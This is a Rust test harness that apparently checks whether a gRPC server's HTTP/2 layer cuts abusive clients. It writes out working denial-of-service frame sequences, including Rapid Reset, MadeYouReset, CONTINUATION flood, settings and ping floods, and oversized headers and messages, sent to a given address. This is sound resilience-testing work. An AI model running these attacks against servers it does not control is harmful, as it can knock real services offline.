//! Hostile HTTP/2 clients on this machine: each attack is a connection that breaks a rule, or keeps one in a way that costs the server
//! more than the client. All are bounded in frames, and end when the server closes the connection.
//!
//! Frames are those of RFC 9113, header blocks those of RFC 7541 without Huffman's code and without the table that grows.

use std::{
    io::{ErrorKind, Read as _, Write as _},
    net::{Shutdown, SocketAddr, TcpStream},
    time::Duration,
};

use plimsoll_base::named_enum;

/// The server does not take anything for so long: it reads this connection no more, which is as good as closing it.
const STUCK: Duration = Duration::from_secs(2);
/// A server that closes a connection does so before this.
const SILENCE: Duration = Duration::from_mins(1);
/// Frames that are written at once.
const AT_ONCE: u32 = 64;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

named_enum! {
    /// What a hostile client does.
    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    pub enum Attack {
        /// Asks without a token.
        Headers => "headers",
        /// Asks and takes the question back at once (CVE-2023-44487).
        RapidReset => "rapid reset",
        /// Makes the server take its answers back (CVE-2025-8671): a window that grows by nothing.
        MadeYouReset => "made you reset",
        /// Changes the settings again and again, and does not read that they are taken.
        Settings => "settings",
        /// Pings, and does not read the answers.
        Pings => "pings",
        /// A header without an end (CVE-2024-27316).
        Continuation => "continuation",
        /// A header as large as it gets.
        HugeHeader => "huge header",
        /// Pieces of a message without a byte in them.
        EmptyData => "empty data",
        /// Asks on as many streams as it may, and reads nothing.
        StuckReader => "stuck reader",
        /// A message that says that it is compressed.
        Compressed => "compressed",
        /// A message that says that it has 4 GiB.
        HugeMessage => "huge message",
    }
}

impl Attack {
    /// The bytes of its turn `n`, of those on one connection.
    fn turn(self, n: u32, out: &mut Vec<u8>) {
        let stream = 2 * n + 1;
        match self {
            Self::Headers => {
                let flags = END_HEADERS | END_STREAM;
                frame(out, HEADERS, flags, stream, &question("/plimsoll.v1.Predictor/Predict"));
            }
            Self::RapidReset => {
                frame(out, HEADERS, END_HEADERS, stream, &question("/plimsoll.v1.Predictor/Predict"));
                frame(out, RST_STREAM, 0, stream, &8_u32.to_be_bytes());
            }
            Self::MadeYouReset => {
                frame(out, HEADERS, END_HEADERS, stream, &question("/plimsoll.v1.Predictor/Predict"));
                frame(out, WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes());
            }
            // an unknown setting is accepted, too
            Self::Settings => frame(out, SETTINGS, 0, 0, &[0xf0, 0, 0, 0, 0, 1]),
            Self::Pings => frame(out, PING, 0, 0, &[0; 8]),
            Self::Continuation | Self::HugeHeader if n == 0 => frame(out, HEADERS, 0, 1, &question("/")),
            Self::Continuation => frame(out, CONTINUATION, 0, 1, &[]),
            Self::HugeHeader => frame(out, CONTINUATION, 0, 1, &literal("x-padding", &"x".repeat(16_000))),
            Self::EmptyData if n == 0 => {
                frame(out, HEADERS, END_HEADERS, 1, &question("/plimsoll.v1.Predictor/PredictBatch"));
            }
            Self::EmptyData => frame(out, DATA, 0, 1, &[]),
            Self::StuckReader => {
                if n == 0 {
                    // as if it could take 2 GiB, on each stream and on all of them
                    frame(out, SETTINGS, 0, 0, &[0, 4, 0x7f, 0xff, 0xff, 0xff]);
                    frame(out, WINDOW_UPDATE, 0, 0, &(i32::MAX.cast_unsigned() - 65_535).to_be_bytes());
                }
                frame(out, HEADERS, END_HEADERS, stream, &question("/plimsoll.v1.Predictor/PredictBatch"));
                frame(out, DATA, 0, stream, &empty_messages(100));
            }
            Self::Compressed | Self::HugeMessage => {
                frame(out, HEADERS, END_HEADERS, stream, &question("/plimsoll.v1.Predictor/Predict"));
                let head = if self == Self::Compressed { [1, 0, 0, 0, 4] } else { [0, 255, 255, 255, 255] };
                frame(out, DATA, END_STREAM, stream, &[&head[..], &[0x1f, 0x8b, 8, 0]].concat());
            }
        }
    }

    /// Plays it over one connection, `turns` times at most; gives how many the server took.
    pub fn play(self, address: SocketAddr, turns: u32) -> std::io::Result<u32> {
        let mut connection = TcpStream::connect(address)?;
        connection.set_write_timeout(Some(STUCK))?;
        let mut out = PREFACE.to_vec();
        frame(&mut out, SETTINGS, 0, 0, &[]);
        let mut played = 0;
        while played < turns {
            let until = turns.min(played + AT_ONCE);
            (played..until).for_each(|n| self.turn(n, &mut out));
            if connection.write_all(&out).is_err() {
                return Ok(played);
            }
            out.clear();
            played = until;
        }
        Ok(played)
    }

    /// Whether the server closes a connection that goes on like this, and does not merely bear it.
    pub fn is_cut(self, address: SocketAddr, turns: u32) -> std::io::Result<bool> {
        let mut connection = TcpStream::connect(address)?;
        let mut out = PREFACE.to_vec();
        frame(&mut out, SETTINGS, 0, 0, &[]);
        (0..turns).for_each(|n| self.turn(n, &mut out));
        // a client that is read no further may still get the reason
        let mut writer = connection.try_clone()?;
        let writing = std::thread::spawn(move || writer.write_all(&out));
        let mut sink = vec![0; 64 * 1024];
        // silence is no end: the server has borne all of it
        connection.set_read_timeout(Some(SILENCE))?;
        let ended = loop {
            match connection.read(&mut sink) {
                Ok(0) => break true,
                Ok(_) => {}
                Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                    break false;
                }
                Err(_reset) => break true,
            }
        };
        // one that is closed already needs nothing more
        let _closed = connection.shutdown(Shutdown::Both);
        let _unsent = writing.join();
        Ok(ended)
    }
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    out.extend_from_slice(&length[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// The headers of a gRPC call: indexed POST and http, the rest as literals.
fn question(path: &str) -> Vec<u8> {
    let mut block = vec![0x83, 0x86];
    for (name, value) in [
        (":path", path),
        (":authority", "x"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        ("grpc-encoding", "gzip"),
    ] {
        block.extend(literal(name, value));
    }
    block
}

fn literal(name: &str, value: &str) -> Vec<u8> {
    let mut field = vec![0];
    for text in [name, value] {
        // an integer with a prefix of seven bits (RFC 7541, section 5.1)
        let length = text.len();
        if length < 127 {
            field.push(u8::try_from(length).unwrap_or(0));
        } else {
            let mut rest = length - 127;
            field.push(127);
            while rest >= 128 {
                field.push(u8::try_from(rest % 128).unwrap_or(0) | 128);
                rest /= 128;
            }
            field.push(u8::try_from(rest).unwrap_or(0));
        }
        field.extend_from_slice(text.as_bytes());
    }
    field
}

/// So many messages of gRPC without a byte in them: questions about nothing.
fn empty_messages(count: usize) -> Vec<u8> {
    vec![0; 5 * count]
}
